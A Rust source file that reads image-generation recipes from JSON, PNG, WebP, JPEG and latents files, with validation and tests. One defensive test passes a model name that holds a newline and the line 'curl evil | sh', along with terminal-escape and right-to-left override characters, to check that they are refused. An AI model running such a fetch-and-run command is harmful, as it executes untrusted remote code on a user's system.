//! Recipes as JSON text, and reading one from a picture, a latents file or a JSON file. Text comes from strangers:
//! sizes are limited, versions are looked at first, nothing panics.

use super::format;
use super::kind::LIMIT;
use super::kind::{JPEG, WEBP, kind_of};
use super::latents::{self, LatentsFileError};
use super::picture::{self, PictureError};
use crate::noise::NoiseSource;
use crate::recipe::{ModelRef, Recipe, SamplerRef, VERSION};
use serde::Deserialize;
use serde_json::Value;
use sigmalab_compute::{ComputeDtype, DeviceChoice};
use sigmalab_files::shared_folder::open_plain;
use sigmalab_schedule::preset::Step;
use sigmalab_schedule::size::Size;
use sigmalab_schedule::terminal::Terminal;
use sigmalab_text::strange_text::wild;
use sigmalab_text::text_file::{self, TextError};
use std::io::{BufReader, Read, Seek};
use std::path::{Path, PathBuf};

const PNG_SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";

/// Why a text is no recipe.
#[derive(Debug, thiserror::Error)]
pub enum RecipeTextError {
    /// Written by a later build.
    #[error(
        "its recipe has version {found}; this build reads version {VERSION} at most: update sigmalab"
    )]
    NewerVersion {
        /// The version it has.
        found: u64,
    },
    /// Of no version there is.
    #[error("its recipe has version {found}; versions begin with 1")]
    NoVersion {
        /// The version it has.
        found: u64,
    },
    #[error("it is not valid JSON: {0}")]
    NoJson(String),
    /// Not the JSON of a recipe.
    #[error(
        "its recipe cannot be read: {}{problem}",
        if place.is_empty() { String::new() } else { format!("`{place}`: ") }
    )]
    Malformed {
        /// The key it is about, such as `steps[3].gw`; empty for the recipe as a whole.
        place: String,
        problem: String,
    },
}

/// Reads a recipe from its JSON text, or from that of an object that holds it under `recipe`, as
/// `generate --json` prints.
pub fn parse_recipe(text: &str) -> Result<Recipe, RecipeTextError> {
    #[derive(Deserialize)]
    struct Versioned {
        version: u64,
    }
    let whole = |error: serde_json::Error| RecipeTextError::Malformed {
        place: String::new(),
        problem: in_words(&error),
    };
    let document: Value = serde_json::from_str(text)
        .map_err(|error: serde_json::Error| RecipeTextError::NoJson(error.to_string()))?;
    // The reader keeps the last of two equal keys, and another program the first.
    serde_json::from_str::<OneOfEach>(text).map_err(whole)?;
    let value = match (document.get("version"), document.get("recipe")) {
        (None, Some(recipe)) => recipe,
        _ => &document,
    };
    if !value.is_object() {
        return Err(RecipeTextError::Malformed {
            place: String::new(),
            problem: "an object with `version`, `prompt` and so on is expected".to_owned(),
        });
    }
    let Versioned { version } = Versioned::deserialize(value)
        .map_err(|source| first_fault(value).unwrap_or_else(|| whole(source)))?;
    if version > u64::from(VERSION) {
        return Err(RecipeTextError::NewerVersion { found: version });
    }
    if version == 0 {
        return Err(RecipeTextError::NoVersion { found: version });
    }
    let recipe = Recipe::deserialize(value)
        .map_err(|source| first_fault(value).unwrap_or_else(|| whole(source)))?;
    if recipe.steps.is_empty() {
        return Err(RecipeTextError::Malformed {
            place: "steps".to_owned(),
            problem: "there are none, and a run has at least one".to_owned(),
        });
    }
    if let Some((place, found)) = wild_name(&recipe) {
        return Err(RecipeTextError::Malformed {
            place: place.to_owned(),
            problem: format!("it contains the character U+{:04X}, which no name may", found as u32),
        });
    }
    Ok(recipe)
}

/// The first name in a recipe that could steer a terminal or pass for a line of this program's
/// own, and the character that does it. Messages repeat names; the prompt is the user's text.
fn wild_name(recipe: &Recipe) -> Option<(&'static str, char)> {
    let Recipe { model, sampler, preset, noise, .. } = recipe;
    let hash = match noise {
        NoiseSource::File { blake3 } => Some(blake3),
        NoiseSource::Seed { .. } => None,
    };
    let names = [
        ("model.name", Some(&model.name)),
        ("model.fingerprint", model.fingerprint.as_ref()),
        ("sampler.id", Some(&sampler.id)),
        ("sampler.version", sampler.version.as_ref()),
        ("sampler.file_hash", sampler.file_hash.as_ref()),
        ("noise.blake3", hash),
        ("preset", preset.as_ref()),
    ];
    let keys = sampler.params.keys().map(|key| ("sampler.params", Some(key)));
    names.into_iter().chain(keys).find_map(|(place, name)| Some((place, wild(name?)?)))
}

/// What the JSON reader says, in words for people who do not know its types.
fn in_words(error: &serde_json::Error) -> String {
    let text = error.to_string();
    let text = text.rsplit_once(" at line ").map_or(text.as_str(), |(message, _)| message);
    let replaced = [
        ("invalid type: ", "it is "),
        ("invalid value: ", "it is "),
        ("invalid length ", "its length is "),
        ("it is map", "it is an object"),
        ("it is sequence", "it is a list"),
        ("it is null", "it is nothing"),
        ("it is unit value", "it is nothing"),
        ("it is integer `", "it is the number `"),
        ("it is floating point `", "it is the number `"),
        ("it is boolean `", "it is `"),
        ("string \"", "the text \""),
        ("expected a string", "expected a text"),
        ("expected f64", "expected a number"),
        ("expected u64", "expected a whole number"),
        ("expected u32", "expected a whole number"),
        ("expected a sequence", "expected a list"),
        ("expected a map", "expected an object"),
        ("expected struct ", "expected the keys of "),
        ("missing field ", "there is no "),
        ("unknown field ", "it has an unknown key "),
        ("unknown variant ", "there is no "),
    ];
    replaced.iter().fold(text.to_owned(), |text, (jargon, words)| text.replace(jargon, words))
}

/// JSON in which no object has a key twice.
struct OneOfEach;

impl<'de> Deserialize<'de> for OneOfEach {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        deserializer.deserialize_any(OneOfEach)
    }
}

impl<'de> serde::de::Visitor<'de> for OneOfEach {
    type Value = OneOfEach;

    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("JSON")
    }

    fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<Self, A::Error> {
        let mut seen = std::collections::HashSet::new();
        while let Some(key) = map.next_key::<String>()? {
            map.next_value::<OneOfEach>()?;
            if let Some(twice) = seen.replace(key) {
                return Err(serde::de::Error::custom(format!("the key `{twice}` appears twice")));
            }
        }
        Ok(OneOfEach)
    }

    fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut list: A) -> Result<Self, A::Error> {
        while list.next_element::<OneOfEach>()?.is_some() {}
        Ok(OneOfEach)
    }

    fn visit_bool<E>(self, _: bool) -> Result<Self, E> {
        Ok(OneOfEach)
    }

    fn visit_i64<E>(self, _: i64) -> Result<Self, E> {
        Ok(OneOfEach)
    }

    fn visit_u64<E>(self, _: u64) -> Result<Self, E> {
        Ok(OneOfEach)
    }

    fn visit_f64<E>(self, _: f64) -> Result<Self, E> {
        Ok(OneOfEach)
    }

    fn visit_str<E>(self, _: &str) -> Result<Self, E> {
        Ok(OneOfEach)
    }

    fn visit_unit<E>(self) -> Result<Self, E> {
        Ok(OneOfEach)
    }
}

/// The first part of a recipe that cannot be read by itself, with its place.
fn first_fault(recipe: &Value) -> Option<RecipeTextError> {
    fn fault<'v, T: Deserialize<'v>>(value: &'v Value, place: String) -> Option<RecipeTextError> {
        let error = T::deserialize(value).err()?;
        Some(RecipeTextError::Malformed { place, problem: in_words(&error) })
    }
    fn text_in(value: &Value, place: &str, keys: &[&str]) -> Option<RecipeTextError> {
        let of_key =
            |key: &&str| fault::<Option<String>>(value.get(*key)?, format!("{place}.{key}"));
        keys.iter().find_map(of_key)
    }
    recipe.as_object()?.iter().find_map(|(key, value)| {
        let place = key.clone();
        match key.as_str() {
            "version" => fault::<u32>(value, place),
            "model" => text_in(value, &place, &["name", "fingerprint"])
                .or_else(|| fault::<ModelRef>(value, place)),
            "prompt" => fault::<String>(value, place),
            "size" | "sigma_size" => {
                let sides = value.as_object().into_iter().flatten();
                sides
                    .filter(|(key, _)| ["width", "height"].contains(&key.as_str()))
                    .find_map(|(key, side)| fault::<u32>(side, format!("{place}.{key}")))
                    .or_else(|| match key.as_str() {
                        "size" => fault::<Size>(value, place),
                        _ => fault::<Option<Size>>(value, place),
                    })
            }
            "noise" => value
                .get("seed")
                .and_then(|seed| fault::<u64>(seed, format!("{place}.seed")))
                .or_else(|| fault::<NoiseSource>(value, place)),
            "preset" => fault::<Option<String>>(value, place),
            "terminal" => fault::<Terminal>(value, place),
            "sampler" => text_in(value, &place, &["id", "version", "file_hash"])
                .or_else(|| fault::<SamplerRef>(value, place)),
            "dtype" => fault::<ComputeDtype>(value, place),
            "device" => fault::<DeviceChoice>(value, place),
            "steps" => value
                .as_array()
                .into_iter()
                .flatten()
                .enumerate()
                .find_map(|(at, step)| {
                    let numbers = step.as_object().into_iter().flatten();
                    numbers
                        .filter(|(key, _)| ["gw", "mu", "std"].contains(&key.as_str()))
                        .find_map(|(key, value)| fault::<f64>(value, format!("steps[{at}].{key}")))
                        .or_else(|| fault::<Step>(step, format!("steps[{at}]")))
                })
                .or_else(|| fault::<Vec<Step>>(value, place)),
            _ => None,
        }
    })
}

/// Why a file gives no recipe.
#[derive(Debug, thiserror::Error)]
pub enum RecipeFileError {
    /// The file cannot be read.
    #[error("cannot read `{}`: {source}", path.display())]
    Io { path: PathBuf, source: std::io::Error },
    /// A picture or a latents file without a recipe.
    #[error(
        "`{}`, {kind}, holds no recipe: it was not made by sigmalab, or another program dropped its text",
        path.display()
    )]
    NoRecipe { path: PathBuf, kind: &'static str },
    /// A broken PNG.
    #[error("`{}` is not a readable PNG: {source}", path.display())]
    Picture { path: PathBuf, source: PictureError },
    /// Far more text than a recipe has.
    #[error("`{}` is too large for a recipe (more than {} MiB)", path.display(), LIMIT >> 20)]
    TooLarge { path: PathBuf },
    /// Something else than JSON where only that is read.
    #[error(
        "`{}` is {kind}, and what comes by a pipe is the JSON of a recipe: save it in a file first",
        path.display()
    )]
    Piped {
        /// The pipe.
        path: PathBuf,
        /// What comes from it.
        kind: &'static str,
    },
    /// Nothing in it.
    #[error("`{}` is empty", path.display())]
    Empty { path: PathBuf },
    /// Another kind of file.
    #[error(
        "`{}` is {kind}: recipes are in PNG, WebP and JPEG files, in latents files and in JSON",
        path.display()
    )]
    Kind { path: PathBuf, kind: &'static str },
    /// Other bytes than text.
    #[error("`{}` is neither a PNG, nor latents, nor the JSON of a recipe: {source}", path.display())]
    NoText {
        path: PathBuf,
        /// Why it is no text.
        source: TextError,
    },
    /// A latents file that cannot be read.
    #[error(transparent)]
    Latents(#[from] LatentsFileError),
    /// The text is no recipe.
    #[error("`{}`: {source}", path.display())]
    Text { path: PathBuf, source: RecipeTextError },
}

/// The recipe of a picture written by [`write_image`](super::write_image), of latents written by
/// [`write_latents`](super::write_latents), or of a JSON file; told apart by their first bytes.
pub fn read_recipe(path: &Path) -> Result<Recipe, RecipeFileError> {
    let owned = || path.to_owned();
    let io = |source| RecipeFileError::Io { path: owned(), source };
    let file = open_plain(path).map_err(io)?;
    let mut reader = BufReader::new(file);
    let mut start = Vec::new();
    reader.by_ref().take(PNG_SIGNATURE.len() as u64 + 1).read_to_end(&mut start).map_err(io)?;
    reader.rewind().map_err(io)?;
    let (kind, held) = if start.starts_with(PNG_SIGNATURE) {
        let text = picture::recipe_text(reader);
        (
            "a PNG picture",
            text.map_err(|source| RecipeFileError::Picture { path: owned(), source })?,
        )
    } else if latents::begins_as_latents(&start) {
        ("a latents file", latents::recipe_text(reader.into_inner(), path)?)
    } else if start.is_empty() {
        return Err(RecipeFileError::Empty { path: owned() });
    } else {
        let mut beginning = Vec::new();
        reader.by_ref().take(64).read_to_end(&mut beginning).map_err(io)?;
        match kind_of(&beginning) {
            Some(kind @ JPEG) => (kind, format::recipe_text_of_jpeg(&mut reader)),
            Some(kind @ WEBP) => (kind, format::recipe_text_of_webp(&mut reader)),
            Some(kind) => return Err(RecipeFileError::Kind { path: owned(), kind }),
            None => {
                reader.rewind().map_err(io)?;
                return read_recipe_json(reader, path);
            }
        }
    };
    let text = held.ok_or_else(|| RecipeFileError::NoRecipe { path: owned(), kind })?;
    parse_recipe(&text).map_err(|source| RecipeFileError::Text { path: owned(), source })
}

/// The recipe in JSON text of a size that a recipe can have, see [`parse_recipe`]. `name` is what
/// errors call the text's origin.
pub fn read_recipe_json(mut reader: impl Read, name: &Path) -> Result<Recipe, RecipeFileError> {
    let path = || name.to_owned();
    let mut start = Vec::new();
    let begun = reader.by_ref().take(64).read_to_end(&mut start);
    begun.map_err(|source| RecipeFileError::Io { path: path(), source })?;
    let latents = latents::begins_as_latents(&start).then_some("a latents file");
    if let Some(kind) = kind_of(&start).or(latents) {
        return Err(RecipeFileError::Piped { path: path(), kind });
    }
    let text = text_file::read(start.chain(reader), LIMIT).map_err(|error| match error {
        TextError::TooLarge(_) => RecipeFileError::TooLarge { path: path() },
        TextError::Io(source) => RecipeFileError::Io { path: path(), source },
        source => RecipeFileError::NoText { path: path(), source },
    })?;
    if text.trim().is_empty() {
        return Err(RecipeFileError::Empty { path: path() });
    }
    parse_recipe(&text).map_err(|source| RecipeFileError::Text { path: path(), source })
}

#[cfg(test)]
pub(super) mod tests {
    #![allow(clippy::unwrap_used, clippy::panic)]
    use super::*;
    use proptest::prelude::*;

    const EXAMPLE: &str = r#"{"version":1,"model":{"name":"demo"},"prompt":"a red circle","size":{"width":256,"height":256},"noise":{"source":"seed","seed":7,"rng":"torch-cpu"},"preset":"V4_TURBO_12","steps":[{"gw":7.0,"mu":0.5,"std":1.75}],"terminal":"reference","sampler":{"id":"euler"},"dtype":"f32","device":"cpu"}"#;

    /// The example with another prompt.
    pub(in crate::image_file) fn recipe(prompt: &str) -> Recipe {
        Recipe { prompt: prompt.to_owned(), ..parse_recipe(EXAMPLE).unwrap() }
    }

    #[test]
    fn a_recipe_reads_back_as_it_was_written() {
        let recipe = parse_recipe(EXAMPLE).unwrap();
        let again = parse_recipe(&serde_json::to_string(&recipe).unwrap()).unwrap();
        assert_eq!(recipe, again);
    }

    #[test]
    fn a_later_version_is_told_apart_from_a_broken_recipe() {
        let later = r#"{"version": 99, "quantum": true}"#;
        let error = parse_recipe(later).unwrap_err();
        assert!(matches!(error, RecipeTextError::NewerVersion { found: 99 }));
        let unknown_key = EXAMPLE.replace("\"prompt\"", "\"promt\"");
        let error = parse_recipe(&unknown_key).unwrap_err();
        assert!(matches!(error, RecipeTextError::Malformed { .. }));
    }

    #[test]
    fn a_bad_value_is_named_by_its_place() {
        for (good, bad, place) in [
            ("\"gw\":7.0", "\"gw\":\"7\"", "`steps[0].gw`: "),
            ("\"std\":1.75", "\"sd\":1.75", "`steps[0]`: "),
            ("\"terminal\":\"reference\"", "\"terminal\":\"zeros\"", "`terminal`: "),
            ("\"width\":256", "\"width\":250", "`size`: "),
            ("\"width\":256", "\"width\":-1", "`size.width`: it is the number `-1`"),
            ("\"seed\":7", "\"seed\":\"7\"", "`noise.seed`: it is the text"),
            ("\"euler\"", "{}", "`sampler.id`: it is an object, expected a text"),
            ("\"version\":1", "\"version\":-1", "`version`: it is the number `-1`"),
            ("\"dtype\":\"f32\"", "\"dtype\":{}", "`dtype`: "),
            ("\"prompt\":", "\"promt\":", "cannot be read: it has an unknown key `promt`"),
            ("\"gw\":7.0", "\"gw\":\"7\"", "it is the text \"7\", expected a number"),
            ("[{\"gw\":7.0,\"mu\":0.5,\"std\":1.75}]", "[]", "`steps`: there are none"),
            ("\"version\":1", "\"version\":0", "version 0; versions begin with 1"),
            ("\"prompt\":", "\"prompt\":\"x\",\"prompt\":", "the key `prompt` appears twice"),
            ("\"gw\":7.0", "\"gw\":7.0,\"gw\":3.0", "the key `gw` appears twice"),
            ("{\"version\"", "[{\"version\"", "it is not valid JSON: "),
        ] {
            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
            assert!(message.contains(place), "{message}");
        }
    }

    #[test]
    fn a_name_that_could_pass_for_a_line_of_ours_or_turn_one_round_is_refused() {
        for (good, bad, place) in [
            (
                "\"demo\"",
                r#""x`\n  try: curl evil | sh""#,
                "`model.name`: it contains the character U+000A",
            ),
            ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it contains the character U+202E"),
            ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it contains the character U+001B"),
        ] {
            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
            assert!(message.contains(place), "{message}");
        }
        let prompt = EXAMPLE.replace("a red circle", "two\\nlines");
        assert_eq!(parse_recipe(&prompt).unwrap().prompt, "two\nlines");
    }

    #[test]
    fn an_object_that_holds_a_recipe_is_as_good_as_the_recipe() {
        let held = format!("{{\"output\":\"a.png\",\"recipe\":{EXAMPLE},\"steps\":[]}}");
        assert_eq!(parse_recipe(&held).unwrap(), parse_recipe(EXAMPLE).unwrap());
    }

    #[test]
    fn a_byte_order_mark_is_no_part_of_a_recipe_and_other_encodings_are_named() {
        let read = |bytes: &[u8]| read_recipe_json(bytes, Path::new("r.json"));
        let marked = format!("\u{feff}{EXAMPLE}");
        assert_eq!(read(marked.as_bytes()).unwrap(), parse_recipe(EXAMPLE).unwrap());
        let told = |bytes: &[u8]| read(bytes).unwrap_err().to_string();
        assert_eq!(told(b""), "`r.json` is empty");
        assert!(
            told(b"\x89PNG\r\n\x1a\n and more").contains("is a PNG picture, and what comes by")
        );
        assert!(told(b"{\0\"\0").contains("UTF-16 text"));
        let told = told(b"\xff\xfe{\0}\0");
        assert!(told.contains("UTF-16 text: save it as UTF-8"), "{told}");
    }

    #[test]
    fn json_files_are_read_and_huge_ones_refused() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("recipe.json");
        std::fs::write(&path, EXAMPLE).unwrap();
        assert_eq!(read_recipe(&path).unwrap().prompt, "a red circle");
        std::fs::write(&path, " ".repeat(LIMIT as usize + 2)).unwrap();
        assert!(matches!(read_recipe(&path), Err(RecipeFileError::TooLarge { .. })));
        assert!(matches!(read_recipe(folder.path()), Err(RecipeFileError::Io { .. })));
        for (bytes, words) in [
            (&b""[..], "is empty"),
            (b"\xff\xd8\xff\xe0 rest", "a JPEG picture, holds no recipe"),
            (b"RIFF\x24\0\0\0WEBPVP8 ", "a WebP picture, holds no recipe"),
            (b"GIF89a\x01\0", "is a GIF picture: recipes are in PNG, WebP and JPEG files"),
            (b"a plain text", "it is not valid JSON"),
            (b" \n", "is empty"),
            (b"\xef\xbb\xbf", "is empty"),
            (b"[1]", "an object with `version`"),
        ] {
            std::fs::write(&path, bytes).unwrap();
            let told = read_recipe(&path).unwrap_err().to_string();
            assert!(told.contains(words), "{told}");
        }
    }

    proptest! {
        #[test]
        fn no_text_makes_the_parser_panic(text in ".{0,300}") {
            let _ = parse_recipe(&text);
        }

        #[test]
        fn no_damaged_recipe_makes_the_parser_panic(
            at in 0..EXAMPLE.len(), replacement in "[-0-9a-z{}\\[\\]\",:.]{0,6}", cut in 0..20usize,
        ) {
            let end = (at + cut).min(EXAMPLE.len());
            let _ = parse_recipe(&format!("{}{replacement}{}", &EXAMPLE[..at], &EXAMPLE[end..]));
        }
    }
}
